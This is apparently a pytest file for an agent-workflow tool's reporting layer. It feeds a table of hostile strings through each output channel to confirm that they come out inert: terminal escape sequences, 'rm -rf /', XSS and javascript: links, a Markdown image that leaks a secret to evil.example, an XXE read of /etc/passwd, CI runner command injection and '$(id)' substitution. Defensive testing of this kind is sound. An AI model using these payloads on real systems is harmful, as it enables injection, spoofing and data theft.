"""Texts that would like to be more than text, through everything that shows one: a table of the two."""

import io
import json
import logging
import re
import xml.etree.ElementTree as ElementTree
from collections.abc import Callable
from html.parser import HTMLParser
from pathlib import Path

import pytest

from agentflow import api
from agentflow.api import Checked
from agentflow.cli import logs
from agentflow.events.run_events import GateOpened, RunFinished, StepFinished
from agentflow.events.session_events import ModelReplied, ToolCalled, ToolFinished, ToolRetried
from agentflow.events.values import Failure, Spent, Usage
from agentflow.journal.port import Gate
from agentflow.report import github, sarif
from agentflow.report.dot import dot
from agentflow.report.drawing import picture
from agentflow.report.inert import inert, inert_line
from agentflow.report.json_out import dumps
from agentflow.report.junit import junit_xml
from agentflow.report.lines import line
from agentflow.report.mermaid import mermaid
from agentflow.report.page.html import html
from agentflow.report.page.markdown import markdown
from agentflow.report.style import Paint
from agentflow.report.suites import SuiteResult
from agentflow.report.text import gate_text, outputs_text, tree
from agentflow.report.view import RunView
from agentflow.report.words import Words
from agentflow.simulation.suite import Suite
from agentflow.source.diagnostics import Diagnostic, Place
from agentflow.source.visible import hidden
from tests.report.page import pages
from tests.report.stories import STARTED, called, session, use

TEXTS = {
    "colours and a cleared screen": "\x1b[2J\x1b[31mred\x1b[0m\x9b1m",
    "a title of the window": "\x1b]0;owned\x07\x1b]2;owned\x1b\\",
    "a link of the terminal": "\x1b]8;;https://evil.example/\x1b\\click\x1b]8;;\x1b\\",
    "a clipboard and a paste": "\x1b]52;c;ZXZpbA==\x07\x1b[200~rm -rf\x1b[201~",
    "tmux and screen": "\x1bPtmux;\x1b\x1b]52;c;ZXZpbA==\x07\x1b\\\x1bk title\x1b\\",
    "a device report": "\x1b[6n\x1b[c\x1b]11;?\x07\x05",
    "overwriting": "rm -rf /\rls\x08\x08\x08\x7f\x0b\x0c",
    "reversed writing": "invoice\u202efdp.exe \u2066a\u2069",
    "tags that nobody sees": "hello" + "".join(chr(0xE0000 + ord(one)) for one in "delete everything"),
    "spaces without width": "pass\u200bword \u2060\u180e\u00ad \ufeff",
    "selectors that carry bytes": "😀" + "".join(chr(0xE0100 + one) for one in b"evil"),
    "marks upon marks": "Z" + "\u0301\u0489" * 300,
    "half a character": "\ud800x\udfff",
    "lines that are no lines": "a\u2028b\u2029c\x85d",
    "rich's markup": "[link=https://evil.example]click[/link] [red]x[/] [@click=app.quit]y[/]",
    "an element": "<script>document.title='hit'</script><img src=https://evil.example/x.png onerror=alert(1)>",
    "the end of the data": "</script><!--<script>]]></textarea></style>",
    "an image of Markdown": "![x](https://evil.example/?q=secret) [a](javascript:alert(1)) <https://evil.example>",
    "a link to data": "[x](data:text/html;base64,PHNjcmlwdD4=) https://evil.example @everyone #1",
    "fences": "```\n</details>\n~~~\n# Heading\n| a | b |\n",
    "commands for a runner": "::error file=x::y\n::add-mask::a\n##[error]z\n%0A::set-output name=a::b",
    "XML": "<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]>&e;]]>\x00\x0b\ufffe",
    "a diagram": '"]; click A "javascript:alert(1)" %%{init: {}}%% end\nsubgraph x',
    "JSON": '"}\n{"type": "result", "status": "done"}',
    "a very long line": "x" * 300_000,
    "templates": "{{ secrets.TOKEN }} {% raw %} ${{ github.token }} $(id) `id`",
}


def told(text: str) -> list[tuple[str, object]]:
    failure = Failure("failed", text, step="a")
    return [
        ("", STARTED.__class__(0.0, STARTED.run, text, text, text, {text: text}, text, {"topic": text})),
        ("a", session(1.0, "a", text)),
        ("a", called(1.0)),
        ("a", ModelReplied(2.0, 1, ({"type": "text", "text": text}, use("c", text, file_path=text, command=text)), text,
                           text, Usage(1, 1), 0.0)),
        ("a", ToolCalled(2.0, "c", text, "none", "k")),
        ("a", ToolRetried(2.0, "c", text, 2, "failed", text, 3.0)),
        ("a", ToolFinished(3.0, "c", text, is_error=True)),
        ("", GateOpened(4.0, "b", text, show=text)),
        ("", StepFinished(4.0, "a", "failed", text, failure, text)),
        ("", RunFinished(5.0, "failed", {text: text}, failure, Spent())),
    ]  # fmt: skip


def a_gate(text: str) -> Gate:
    return Gate(STARTED.run, "b", "approve", text, text, 4.0, None)


def event_lines(text: str) -> str:
    view, rows = RunView(), []
    for stream, event in told(text):
        view.apply(stream, event)
        rows.append(line(view, stream, event) or "")
    return "\n".join([*rows, *tree(view.root, Paint(False), 6.0)])


def live_words(text: str) -> str:
    view = RunView()
    words = Words(view, Paint(False), 80)
    rows: list[str] = []
    for stream, event in told(text):
        view.apply(stream, event)
        rows += words.take(stream, event)
    return "\n".join([*rows, *words.hear("a", text + "\n")])


def a_diagnostic(text: str) -> Checked:
    # Of halves of characters a path holds those alone that stand for bytes.
    path = re.sub("[\ud800-\udfff]", "\udcff", text[:200])
    return Checked("w.yaml", None, (Diagnostic("AF301", text, Place(path, 1, 1), text),), {})


def a_log(text: str, formatter: logging.Formatter) -> str:
    written = io.StringIO()
    handler = logging.StreamHandler(written)
    handler.setFormatter(formatter)
    try:
        raise ValueError(text)
    except ValueError as error:
        given = (type(error), error, error.__traceback__)
        handler.emit(logging.LogRecord("agentflow.x", logging.INFO, __file__, 1, "said %s", (text,), given))
    return written.getvalue()


def a_page(text: str, monkeypatch: pytest.MonkeyPatch) -> dict[str, object]:
    monkeypatch.setattr(pages, "BAIT", text)
    # The notes and what is to be done next are our own words.
    return pages.hostile() | {"notes": [], "next": []}


def a_plan(text: str) -> object:
    # JSON's escapes of what needs two of them are none of YAML's.
    quoted = json.dumps(
        re.sub("[\ud800-\udfff\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f\u2028\u2029\ufeff\ufffe]", "?", text)[:2_000],
        ensure_ascii=False,
    )
    source = f"agentflow: 1\nname: x\nsteps:\n  a: {{approve: {quoted.replace('{', '(')}}}\n"
    checked = api.check("x.yaml", source.encode())
    assert checked.plan is not None, checked.diagnostics
    return checked.plan


TERMINAL: dict[str, Callable[[str], str]] = {
    "a text": inert,
    "a line": inert_line,
    "lines of events and the tree": event_lines,
    "what agents write": live_words,
    "a gate": lambda text: gate_text(a_gate(text)),
    "outputs": lambda text: outputs_text({text: text, "more": {text: [text]}}),
    "a log": lambda text: a_log(text, logs._Text()),
}


@pytest.mark.parametrize("channel", TERMINAL)
@pytest.mark.parametrize("name", TEXTS)
def test_on_a_terminal_nothing_acts_hides_or_reorders(name: str, channel: str):
    shown = TERMINAL[channel](TEXTS[name])
    assert shown
    assert not re.search("[\x00-\x08\x0b-\x1f\x7f-\x9f\u2028-\u202e\u2066-\u2069\ud800-\udfff]", shown)
    assert hidden(shown) is None


@pytest.mark.parametrize("channel", ["a line", "lines of events and the tree"])
def test_a_line_stays_bounded_however_long_the_text(channel: str):
    assert max(map(len, TERMINAL[channel]("x" * 300_000).splitlines())) < 2_000


@pytest.mark.parametrize("name", TEXTS)
def test_for_programs_it_is_ascii_on_one_line_and_the_very_text(name: str):
    text = TEXTS[name]
    for shown in (dumps({"output": text}), a_log(text, logs._Json()).rstrip("\n")):
        assert shown.isascii()
        assert not re.search("[\x00-\x1f\x7f]", shown)
        json.loads(shown)
    assert json.loads(dumps({"output": text})) == {"output": text}


@pytest.mark.parametrize("name", TEXTS)
def test_in_the_page_it_is_text_and_nothing_else(name: str, monkeypatch: pytest.MonkeyPatch):
    class Elements(HTMLParser):
        def __init__(self) -> None:
            super().__init__()
            self.found: list[str] = []

        def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
            self.found.append(f"{tag} {sorted(name for name, _ in attrs)}")
            for name, value in attrs:
                assert name not in ("src", "href", "srcset", "action") or (value or "").startswith("#")

    plain, page = Elements(), html(a_page(TEXTS[name], monkeypatch))
    elements = Elements()
    elements.feed(page)
    plain.feed(html(a_page("plain", monkeypatch)))
    assert elements.found == plain.found
    assert hidden(re.sub("<[^>]*>", "", page)) is None


@pytest.mark.parametrize("name", TEXTS)
def test_in_a_comment_it_stands_in_code_alone(name: str, monkeypatch: pytest.MonkeyPatch):
    made = markdown(a_page(TEXTS[name], monkeypatch))
    assert hidden(made) is None
    outside = re.sub(r"(?m)^(`{3,})text\n[\s\S]*?\n\1$", "", made)
    outside = re.sub(r"(?<!`)(`+)(?!`)[\s\S]*?(?<!`)\1(?!`)", "", outside)
    for bait in ("evil", "](", "<script", "<img", "@everyone", "::error", "# Heading", "javascript:"):
        assert bait not in outside, bait


@pytest.mark.parametrize("name", TEXTS)
def test_for_a_runner_of_workflows_it_is_one_command(name: str):
    shown = github.render([a_diagnostic(TEXTS[name])])
    assert [row.startswith("::error file=") for row in re.split("[\n\r\u2028\u2029\x85]", shown)] == [True]
    assert shown.count("::") - shown.split("::", 2)[2].count("::") == 2
    assert hidden(shown) is None


@pytest.mark.parametrize("name", TEXTS)
def test_in_sarif_and_junit_it_is_data(name: str):
    log = json.loads(sarif.render([a_diagnostic(TEXTS[name])], "1", Path("/w")))
    (result,) = log["runs"][0]["results"]
    assert hidden(result["message"]["text"]) is None
    assert "](" not in result["message"]["text"].replace("\\]", "").replace("\\[", "")
    checked = a_diagnostic(TEXTS[name])
    suite = Suite(TEXTS[name], None, None, (), checked.diagnostics, {})
    assert not suite.ok
    shown = junit_xml([SuiteResult(suite, ())])
    (case,) = ElementTree.fromstring(shown).iter("testcase")
    assert case.find("error") is not None


@pytest.mark.parametrize("name", TEXTS)
def test_in_diagrams_it_stays_in_its_label(name: str):
    drawn = picture(a_plan(TEXTS[name]))
    plain = picture(a_plan("plain"))
    assert len(mermaid(drawn).splitlines()) == len(mermaid(plain).splitlines())
    assert hidden(mermaid(drawn)) is None
    assert len(dot(drawn, "x").splitlines()) == len(dot(plain, "x").splitlines())
    for row in dot(drawn, "x").splitlines():
        assert row.replace("\\\\", "").replace('\\"', "").count('"') % 2 == 0
    for row in mermaid(drawn).splitlines():
        assert "click" not in row.split('"')[0]
